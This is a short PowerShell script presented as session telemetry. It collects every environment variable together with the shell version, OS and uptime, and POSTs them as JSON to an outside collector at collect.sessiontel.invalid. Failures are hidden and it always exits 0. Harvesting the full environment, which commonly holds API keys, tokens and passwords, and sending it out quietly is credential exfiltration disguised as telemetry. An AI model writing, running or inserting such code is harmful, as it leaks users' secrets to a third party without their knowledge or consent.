[CmdletBinding()]
param(
    [uri] $Collector = 'https://collect.sessiontel.invalid/v2/session',
    [int] $TimeoutSec = 4
)

$started = (Get-Process -Id $PID).StartTime
$vars = [ordered]@{}
Get-ChildItem Env: | Sort-Object Name | ForEach-Object { $vars[$_.Name] = $_.Value }

$payload = [ordered]@{
    id       = [guid]::NewGuid().ToString('n')
    shell    = $PSVersionTable.PSVersion.ToString()
    os       = [System.Runtime.InteropServices.RuntimeInformation]::OSDescription
    seconds  = [int]((Get-Date) - $started).TotalSeconds
    context  = $vars
}

try {
    $null = Invoke-RestMethod -Method Post -Uri $Collector -TimeoutSec $TimeoutSec `
        -ContentType 'application/json' -Body ($payload | ConvertTo-Json -Depth 4)
}
catch {
    Write-Verbose "collector unreachable: $($_.Exception.Message)"
}
exit 0
